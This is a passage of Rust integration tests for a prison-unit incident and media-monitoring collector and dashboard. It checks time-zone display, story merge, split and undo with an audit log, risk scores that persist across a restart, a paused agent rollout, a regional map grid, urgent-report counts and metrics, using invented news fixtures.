    c.wait_for_reports("the report stored", 1, Duration::from_secs(30))
        .await;
    let (cookie, _) = dashboard_login(addr, "analis1", PASSWORD).await;
    let get = |path: String| {
        let cookie = cookie.clone();
        async move {
            let reply = http_get(addr, &path, &[("Cookie", &cookie)]).await;
            assert_eq!(reply.status, 200, "{path}: {}", reply.body);
            reply.body
        }
    };
    let visible = |html: &str| -> String {
        // The text between tags, so that ids inside attributes (option values, links) do not
        // count as shown.
        let mut out = String::new();
        let mut inside = false;
        for ch in html.chars() {
            match ch {
                '<' => inside = true,
                '>' => {
                    inside = false;
                    out.push(' ');
                }
                c if !inside => out.push(c),
                _ => {}
            }
        }
        out
    };
    let report_path = format!("/laporan/{}", filed.id);
    for path in [
        "/laporan".to_owned(),
        report_path.clone(),
        "/peringatan".to_owned(),
        "/publikasi/ringkasan-harian".to_owned(),
        "/".to_owned(),
    ] {
        let text = visible(&get(path.clone()).await);
        assert!(has_local_time(&text, "WIT"), "{path}: no WIT time: {text}");
        assert!(text.contains("Lapas Kelas IIB Sorong"), "{path}: {text}");
        assert!(!text.contains(id), "{path} shows the site id: {text}");
        assert!(!text.contains("kejadian_menonjol"), "{path}: {text}");
        assert!(!text.contains(":00Z"), "{path} shows raw UTC: {text}");
    }
    for path in [
        "/laporan",
        report_path.as_str(),
        "/publikasi/ringkasan-harian",
    ] {
        let text = visible(&get(path.to_owned()).await);
        assert!(text.contains("Kejadian Menonjol"), "{path}: {text}");
    }
    for path in ["/cerita", "/cakupan"] {
        let text = visible(&get(path.to_owned()).await);
        assert!(has_local_time(&text, "WIB"), "{path}: no WIB time: {text}");
        assert!(!text.contains(":00Z"), "{path} shows raw UTC: {text}");
    }
    let digest = get("/publikasi/ringkasan-harian".to_owned()).await;
    let select = section(&digest, "<select name=\"kanwil\">", "</select>");
    assert_eq!(select.matches("<option").count(), 39, "{select}");
    assert!(select.contains(">Papua Barat Daya<"));
    assert!(
        !digest.contains("<input name=\"kanwil\""),
        "free-text Kanwil"
    );
    let laporan = get("/laporan".to_owned()).await;
    assert!(laporan.contains(">Papua Barat Daya</option>"));

    let api: Value = serde_json::from_str(&get("/api/v1/reports".to_owned()).await)
        .unwrap_or_else(|e| panic!("{e}"));
    let item = &api["items"][0];
    for key in ["occurred_at", "filed_at", "received_at"] {
        assert!(
            item[key].as_str().is_some_and(|t| t.ends_with("+09:00")),
            "{key}: {item}"
        );
    }
    assert_eq!(item["site_name"], "Lapas Kelas IIB Sorong");
    assert_eq!(item["category_label"], "Kejadian Menonjol");

    // Ringkasan: top stories are media stories, the sentiment card is their mean, offline 0
    // is not red.
    let home = get("/".to_owned()).await;
    let table = section(&home, "Cerita media teratas", "</table>");
    let rows: Vec<Vec<String>> = table
        .split("<tr>")
        .skip(2)
        .map(|row| {
            row.split("<td")
                .skip(1)
                .map(|cell| visible(&format!("<td{cell}")).trim().to_owned())
                .collect()
        })
        .collect();
    assert!(!rows.is_empty(), "no top stories: {table}");
    let mut sum = 0.0;
    for row in &rows {
        let items: usize = row[1].parse().unwrap_or(0);
        assert!(items > 0, "a top story without media items: {row:?}");
        sum += row[5].replace('+', "").parse::<f64>().unwrap_or(f64::NAN);
    }
    let mean = format!("{:+.2}", sum / rows.len() as f64);
    let card = section(&home, "Sentimen media", "</b>");
    assert!(
        card.ends_with(&mean),
        "card {card} against the rows' mean {mean}"
    );
    assert!(
        home.contains("UPT offline sekarang<b class=\"\">0</b>"),
        "offline 0 is coloured: {home}"
    );
    running.stop().await;
}

/// Imports the analysis fixture's media items through the running collector's media desk.
fn import_media_fixture(c: &TestCollector) {
    let (media, _) = pasopati_analysis::media::read_media_jsonl(
        "fixture",
        &std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/analysis/media.jsonl"),
        )
        .unwrap_or_else(|e| panic!("{e}")),
    );
    c.newsroom.import(media).unwrap_or_else(|e| panic!("{e}"));
}

/// Writes media JSONL into `folder` and imports it with the command line.
fn import_media_lines(
    bins: &Bins,
    data_dir: &std::path::Path,
    folder: &std::path::Path,
    jsonl: &str,
) {
    let file = folder.join("media.jsonl");
    std::fs::write(&file, jsonl).unwrap_or_else(|e| panic!("{e}"));
    let import = [
        "media",
        "import",
        "--data-dir",
        path_str(data_dir),
        "--file",
        path_str(&file),
    ];
    run_ok(&bins.collector, &import);
}

/// Issue 14, part 2: a story's page says why each item is in it (a copy, a shared unit); an
/// analyst merges two stories, splits an item out, and undoes the merge, from the dashboard
/// and the command line; each edit is in the audit log, and the engine's own grouping never
/// changes (undoing every edit gives back exactly the stories before). Invented news.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_analyst_sees_why_items_are_in_a_story_and_merges_splits_and_undoes() {
    let bins = bins!();
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let d = path_str(&c.dir).to_owned();
    let fire = "Kebakaran melanda dapur Lapas Kelas IIA Palu pada Selasa malam; api padam dalam satu jam tanpa korban.";
    let lines = [
        (
            "a",
            "2026-11-10T12:00:00Z",
            "Dapur Lapas Palu terbakar",
            fire,
        ),
        (
            "a-salin",
            "2026-11-10T13:00:00Z",
            "Dapur Lapas Palu terbakar",
            fire,
        ),
        (
            "b",
            "2026-11-10T14:00:00Z",
            "Api di dapur Lapas Palu padam dalam satu jam",
            "Petugas Lapas Kelas IIA Palu memadamkan kebakaran dapur; tidak ada korban jiwa.",
        ),
        (
            "c",
            "2026-11-10T15:00:00Z",
            "Rutan Makassar gelar panen sayur",
            "Rutan Kelas I Makassar memanen 300 kilogram kangkung hasil kebun pembinaan.",
        ),
    ];
    let jsonl: String = lines
        .iter()
        .map(|(id, at, title, text)| {
            serde_json::json!({"id": id, "url": format!("https://berita-uji.example/{id}"),
                "source": "Berita Uji", "title": title, "text": text, "published_at": at})
            .to_string()
                + "\n"
        })
        .collect();
    import_media_lines(&bins, &c.dir, tmp.path(), &jsonl);
    let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
    let stories = || async {
        let reply = http_get(addr, "/api/v1/stories?limit=100", &[("Cookie", &analyst)]).await;
        let v: Value = serde_json::from_str(&reply.body).unwrap_or_else(|e| panic!("{e}"));
        v["items"].as_array().cloned().unwrap_or_default()
    };
    let story_of = |stories: &[Value], item: &str| -> String {
        stories
            .iter()
            .find(|s| {
                s["items"]
                    .as_array()
                    .is_some_and(|i| i.iter().any(|x| x == item))
            })
            .and_then(|s| s["id"].as_str())
            .unwrap_or_else(|| panic!("no story holds {item}: {stories:?}"))
            .to_owned()
    };
    let before = stories().await;
    assert_eq!(before.len(), 2, "{before:?}");
    let (fire_story, harvest) = (story_of(&before, "a"), story_of(&before, "c"));

    // Why each item is there, on the page and in the API.
    let page = http_get(
        addr,
        &format!("/cerita/{fire_story}"),
        &[("Cookie", &analyst)],
    )
    .await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Memulai cerita ini."), "{}", page.body);
    assert!(
        page.body.contains("Salinan dari a (teks sama)."),
        "{}",
        page.body
    );
    assert!(page.body.contains("Menyebut Lapas"), "{}", page.body);
    let api = http_get(
        addr,
        &format!("/api/v1/stories/{fire_story}"),
        &[("Cookie", &analyst)],
    )
    .await;
    let api: Value = serde_json::from_str(&api.body).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(api["documents"][1]["reason"]["kind"], "copy", "{api}");

    // Merge the harvest into the fire story from the dashboard.
    let merged = post_form(
        addr,
        &format!("/cerita/{fire_story}/gabung"),
        &analyst,
        &[("csrf", &csrf), ("from", &harvest), ("note", "uji gabung")],
    )
    .await;
    assert_eq!(merged.status, 303, "{}", merged.body);
    let after_merge = stories().await;
    assert_eq!(after_merge.len(), 1, "{after_merge:?}");
    assert_eq!(after_merge[0]["merged_from"][0], harvest.as_str());
    let gone = http_get(addr, &format!("/cerita/{harvest}"), &[("Cookie", &analyst)]).await;
    assert_eq!(
        gone.status, 303,
        "a merged story's page leads to where it went"
    );
    assert_eq!(
        gone.header("location"),
        Some(format!("/cerita/{fire_story}").as_str())
    );
    // Merging a story into itself is refused in words.
    let refused = post_form(
        addr,
        &format!("/cerita/{fire_story}/gabung"),
        &analyst,
        &[("csrf", &csrf), ("from", &fire_story)],
    )
    .await;
    assert_eq!(refused.status, 400);
    assert!(
        refused.body.contains("cannot be merged into itself"),
        "{}",
        refused.body
    );

    // Split the harvest item back out: the checked box is a `dok_<n>` field.
    let split = post_form(
        addr,
        &format!("/cerita/{fire_story}/pisah"),
        &analyst,
        &[
            ("csrf", &csrf),
            ("dok_3", "c"),
            ("title", "Panen kangkung"),
            ("note", "peristiwa lain"),
        ],
    )
    .await;
    assert_eq!(split.status, 303, "{}", split.body);
    assert_eq!(split.header("location"), Some("/cerita/pisah-2"));
    let new = http_get(addr, "/cerita/pisah-2", &[("Cookie", &analyst)]).await;
    assert!(new.body.contains("Dipindahkan analis."), "{}", new.body);
    assert!(new.body.contains("Panen kangkung"), "{}", new.body);
    assert_eq!(stories().await.len(), 2);

    // The command line sees the same edits and undoes the merge; the split, whose item is no
    // longer in that story, no longer applies: the engine's grouping is back exactly.
    let edits = run_ok(&bins.collector, &["story", "edits", "--data-dir", &d]);
    assert_eq!(edits.lines().count(), 2, "{edits}");
    assert!(edits.contains("\"by\":\"dashboard:analis1\""), "{edits}");
    run_ok(
        &bins.collector,
        &["story", "undo", "--data-dir", &d, "--edit", "1"],
    );
    let after_undo = stories().await;
    let ids = |v: &[Value]| -> BTreeSet<String> {
        v.iter()
            .filter_map(|s| s["id"].as_str().map(str::to_owned))
            .collect()
    };
    assert_eq!(ids(&after_undo), ids(&before));
    let refused = run_fail(
        &bins.collector,
        &[
            "story",
            "merge",
            "--data-dir",
            &d,
            "--from",
            "story-tidak-ada",
            "--into",
            &fire_story,
        ],
    );
    assert!(
        refused.contains("no story `story-tidak-ada` is listed now"),
        "{refused}"
    );
    let shown = run_ok(
        &bins.collector,
        &["story", "show", "--data-dir", &d, "--id", &harvest],
    );
    assert!(shown.contains("\"documents\""), "{shown}");

    let audit = c.store.audit_log().unwrap_or_else(|e| panic!("{e}"));
    let actions: Vec<&str> = audit
        .iter()
        .filter_map(|(_, e)| e.as_ref().ok())
        .map(|e| e.action.as_str())
        .filter(|a| a.starts_with("story_edit"))
        .collect();
    assert_eq!(actions, ["story_edit", "story_edit", "story_edit_undo"]);
}

/// Issue 14, part 4: the risk picture. Negative coverage of a unit and an unverified claim
/// about it make its score, explained part by part on the Risiko page, in the API and on the
/// command line; a day recorded before a restart is still there after it, not recomputed,
/// and drawn in the unit's sparkline. Invented news.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_risk_picture_is_explained_and_its_history_survives_a_restart() {
    use pasopati_analysis::risk::{Component, Part, RiskScore, Scope};
    let bins = bins!();
    let tmp = tempdir();
    let dir = tmp.path().join("collector");
    init_collector_with(&dir, |t| t);
    let c = collector_with_users(&dir).await;
    let d = path_str(&dir).to_owned();
    let now = pasopati_common::Timestamp::now();
    let bad = "Kericuhan dan pungli di Lapas Kelas I Cipinang membuat keluarga warga binaan kecewa dan marah; pelayanan buruk.";
    let jsonl: String = (0..3)
        .map(|i| {
            serde_json::json!({"id": format!("neg{i}"), "url": format!("https://berita-uji.example/neg{i}"),
                "source": format!("Portal Uji {i}"), "title": format!("Keluhan keluarga ke-{i} di Lapas Cipinang"),
                "text": format!("{bad} Keluhan ke-{i} dari pengunjung lain."),
                "published_at": pasopati_common::Timestamp(now.0 - (i + 1) * 3_600_000).to_rfc3339()})
            .to_string()
                + "\n"
        })
        .collect();
    import_media_lines(&bins, &c.dir, tmp.path(), &jsonl);
    run_ok(
        &bins.collector,
        &[
            "claim",
            "add",
            "--data-dir",
            &d,
            "--claim",
            "Klaim uji: pungli di Lapas Cipinang",
            "--item",
            "neg0",
        ],
    );

    let printed = run_ok(&bins.collector, &["risk", "--data-dir", &d]);
    let picture: Value =
        serde_json::from_str(printed.trim()).unwrap_or_else(|e| panic!("{e}: {printed}"));
    let unit = picture["upt"]
        .as_array()
        .and_then(|u| u.iter().find(|x| x["scope"]["id"] == "lapas-cipinang"))
        .unwrap_or_else(|| panic!("no score for the unit: {picture}"))
        .clone();
    let part = |name: &str| {
        unit["parts"]
            .as_array()
            .and_then(|p| p.iter().find(|x| x["component"] == name))
            .cloned()
    };
    assert_eq!(
        part("negative_coverage").map(|p| p["value"].clone()),
        Some(serde_json::json!(3.0)),
        "{unit}"
    );
    assert_eq!(
        part("unverified_claim").map(|p| p["points"].clone()),
        Some(serde_json::json!(3.0)),
        "{unit}"
    );
    let sum: f64 = unit["parts"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|p| p["points"].as_f64())
        .sum();
    assert_eq!(unit["score"].as_f64(), Some(sum));

    // A day recorded three days ago (as a running collector would have), then a restart.
    let today = pasopati_analysis::insight::day_of(now.0);
    let earlier = RiskScore {
        scope: Scope::Upt("lapas-cipinang".into()),
        score: 42.0,
        parts: vec![Part {
            component: Component::Spike,
            value: 4.2,
            weight: 10.0,
            points: 42.0,
        }],
    };
    c.store
        .record_risk_day(today - 3, &[earlier])
        .unwrap_or_else(|e| panic!("{e}"));
    c.stop().await;
    let c = TestCollector::start(&dir, any_loopback_port()).await;
    let (viewer, _) = dashboard_login(c.dashboard(), "pemirsa1", PASSWORD).await;
    let api = http_get(c.dashboard(), "/api/v1/risk", &[("Cookie", &viewer)]).await;
    assert_eq!(api.status, 200, "{}", api.body);
    let api: Value = serde_json::from_str(&api.body).unwrap_or_else(|e| panic!("{e}"));
    let history = api["upt"]
        .as_array()
        .and_then(|u| u.iter().find(|x| x["scope"]["id"] == "lapas-cipinang"))
        .map(|x| x["history"].clone())
        .unwrap_or_else(|| panic!("{api}"));
    let history: Vec<f64> = history
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_f64)
        .collect();
    assert_eq!(history.len(), 30);
    assert_eq!(
        history[26], 42.0,
        "the recorded day was lost or recomputed: {history:?}"
    );
    assert!(history[29] > 0.0, "today is not recorded: {history:?}");
    let page = http_get(c.dashboard(), "/risiko", &[("Cookie", &viewer)]).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("Lapas Kelas I Cipinang"),
        "{}",
        page.body
    );
    assert!(
        page.body.contains("berita bernada negatif 3 × 2 = 6"),
        "{}",
        page.body
    );
    assert!(page.body.contains("<polyline"), "{}", page.body);
    assert!(
        page.body.contains(" 42 "),
        "the sparkline's label lacks the recorded day: {}",
        page.body
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn armada_shows_a_paused_rollout_with_the_reason_and_a_site_behind_on_its_settings() {
    use pasopati_collector::fleet::{self, config, release, rollout};
    use pasopati_common::fleet::{AgentStatus, Setting, UpdateState};
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let id = MAKASSAR.0;
    let _agent = enroll_named(&c, &tmp.path().join("agent"), MAKASSAR).await;
    let site = c
        .store
        .site(&pasopati_common::SiteId::new(id).unwrap())
        .unwrap()
        .unwrap();
    let now = pasopati_common::Timestamp::now();
    release::create_key(&c.store, &c.dir, "admin").unwrap();
    let package = tmp.path().join("pasopati-agent-0.2.0");
    std::fs::write(&package, "#!/bin/sh\nexit 0\n").unwrap();
    let signed = release::sign_and_stage(
        &c.dir,
        &release::NewRelease {
            package: &package,
            version: "0.2.0",
            arch: Some("x86_64"),
            key: None,
            downgrade_until: None,
        },
    )
    .unwrap();
    release::record(&c.store, &signed, "admin", now).unwrap();
    rollout::start(&c.store, "0.2.0", &[], Some(600), "admin", now).unwrap();
    let version = config::set(
        &c.store,
        &config::Scope::All,
        &[Setting::parse("sync.heartbeat_secs", "30").unwrap()],
        "admin",
        now,
    )
    .unwrap();
    // The site reports it went back from 0.2.0, still on no configuration from the center.
    let status = AgentStatus {
        agent_version: "0.1.0".into(),
        arch: "x86_64".into(),
        config_version: 0,
        config_error: None,
        update: UpdateState::RolledBack {
            version: "0.2.0".into(),
            reason: "started 3 times without coming back healthy".into(),
        },
        release_key: None,
    };
    fleet::on_status(&c.store, &site, &status, now).unwrap();
    let paused = rollout::step(&c.store).unwrap().unwrap();
    assert_eq!(paused.state, rollout::RolloutState::Paused);

    let (cookie, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let page = http_get(addr, "/armada", &[("Cookie", &cookie)]).await;
    let section = section(&page.body, "id=\"pembaruan\"", "</section>");
    assert!(
        section.contains("Pembaruan dijeda: 1 UPT tidak sehat"),
        "{section}"
    );
    assert!(
        section.contains("started 3 times without coming back healthy"),
        "{section}"
    );
    assert!(section.contains("kembali ke versi sebelumnya"), "{section}");
    assert!(section.contains(id), "{section}");
    let row = armada_row(&page.body, id);
    assert!(row.contains(&format!("belum (pusat: v{version})")), "{row}");
}

/// Issue 18, point 4: Risiko and Cakupan draw the tile-grid map of the Kanwil (no map service),
/// a square for each of the 38 with its figure, and a square opens the Kanwil's sites.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_kanwil_map_has_every_kanwil_and_opens_its_sites() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let _semarang = enroll_named(
        &c,
        &tmp.path().join("agent"),
        ("lapas-semarang", "Lapas Kelas I Semarang", "Jawa Tengah"),
    )
    .await;
    let _bogor = enroll_named(
        &c,
        &tmp.path().join("agent-2"),
        ("lapas-bogor", "Lapas Kelas IIA Bogor", "Jawa Barat"),
    )
    .await;
    let (cookie, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    for page in ["/cakupan", "/risiko"] {
        let reply = http_get(addr, page, &[("Cookie", &cookie)]).await;
        assert_eq!(reply.status, 200, "{}", reply.body);
        let grid = section(&reply.body, "class=\"petagrid\"", "</div>");
        let squares = grid.matches("href=\"/armada?kanwil=").count();
        assert_eq!(squares, 38, "{page}: {grid}");
        assert!(
            grid.contains("href=\"/armada?kanwil=Jawa+Tengah\""),
            "{grid}"
        );
    }
    let css = http_get(addr, "/static/app.css", &[]).await.body;
    assert!(css.contains(".petagrid .c13{grid-column:14}"), "{css}");
    let armada = http_get(addr, "/armada?kanwil=Jawa+Tengah", &[("Cookie", &cookie)]).await;
    assert_eq!(armada.status, 200);
    assert!(armada.body.contains("data-site=\"lapas-semarang\""));
    assert!(!armada.body.contains("data-site=\"lapas-bogor\""));
}

/// Ringkasan counts today's reports and today's urgent ones through the report index, all of
/// them: the urgent card is their number however many there are (it was the urgent ones among
/// the first thousand of the day), the list shows the newest twenty, and a link opens the rest
/// on Laporan with the same count.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ringkasan_counts_every_urgent_report_of_today_and_links_to_the_rest() {
    use pasopati_collector::store::{SiteRecord, SiteStatus};
    use pasopati_common::{Epoch, SiteId, SiteType, Timestamp};
    let (_tmp, c, addr) = dashboard_in_tempdir().await;
    let site = SiteId::new(SORONG.0).unwrap_or_else(|e| panic!("{e}"));
    let now = Timestamp::now();
    c.store
        .add_site(
            &SiteRecord::new(
                site.clone(),
                SORONG.1.into(),
                SiteType::Lapas,
                SORONG.2.into(),
                SiteStatus::Active,
                now,
            ),
            "uji",
        )
        .unwrap_or_else(|e| panic!("{e}"));
    // 130 invented reports happening now, 105 of them urgent.
    let reports = (0..130)
        .map(|n| {
            let mut d = draft(n);
            if n >= 25 {
                d.priority = Some(pasopati_common::Priority::Urgent);
            }
            d.occurred_at = Some(now);
            d.validate(pasopati_common::taxonomy::Taxonomy::builtin(), now)
                .unwrap_or_else(|e| panic!("{e}"))
        })
        .collect();
    c.store
        .apply_batch(
            &site,
            Epoch(1),
            &pasopati_common::frame::Batch {
                first_seq: 1,
                reports,
            },
            &pasopati_common::frame::Limits::default(),
            &pasopati_common::pii::PiiGuard::default(),
            now,
        )
        .unwrap_or_else(|e| panic!("{e}"));
    let (cookie, _) = dashboard_login(addr, "analis1", PASSWORD).await;
    let home = http_get(addr, "/", &[("Cookie", &cookie)]).await;
    assert_eq!(home.status, 200, "{}", home.body);
    let card = |title: &str| section(&home.body, title, "</b>");
    assert!(
        card("Laporan UPT hari ini").ends_with(">130"),
        "{}",
        home.body
    );
    assert!(
        card("Laporan mendesak hari ini<b").ends_with(">105"),
        "{}",
        home.body
    );
    let listed = section(&home.body, "Laporan mendesak hari ini</h2>", "</ul>");
    assert_eq!(listed.matches("<li class=\"urgent\">").count(), 20);
    assert!(listed.contains("Apel pagi ke-129"), "the newest first");
    let link = section(&home.body, "<p><a href=\"/laporan?", "\"");
    assert!(
        home.body.contains("Semua 105 laporan mendesak hari ini"),
        "{}",
        home.body
    );
    let rest = http_get(addr, &format!("/laporan?{link}"), &[("Cookie", &cookie)]).await;
    assert_eq!(rest.status, 200, "{}", rest.body);
    assert!(rest.body.contains("<p>105 laporan. "), "{}", rest.body);
    assert!(link.contains("priority=urgent"), "{link}");
}

/// `/metrics` exports where the sync's time goes, stage by stage, with each stage's slowest
/// call (the same figures `bench-sync` prints), and only the collector's own stages.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_say_where_the_sync_spends_its_time() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    sync_reports(&c, &tmp.path().join("agent"), vec![draft(1), draft(2)]).await;
    let (cookie, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let reply = http_get(addr, "/metrics", &[("Cookie", &cookie)]).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    let value = |series: &str| -> f64 {
        reply
            .body
            .lines()
            .find_map(|l| l.strip_prefix(series)?.trim().parse().ok())
            .unwrap_or_else(|| panic!("no {series} in {}", reply.body))
    };
    assert!(value("pasopati_stage_calls_total{stage=\"collector.commit\"}") >= 1.0);
    assert!(value("pasopati_stage_seconds_total{stage=\"collector.rules\"}") > 0.0);
    let slowest = value("pasopati_stage_max_seconds{stage=\"collector.commit\"}");
    assert!(slowest > 0.0 && slowest < 60.0, "{slowest}");
    assert!(
        !reply.body.contains("stage=\"agent."),
        "the agent's stages are not the collector's: {}",
        reply.body
    );
    assert_eq!(reply.body.matches("# TYPE pasopati_stage_").count(), 3);
}
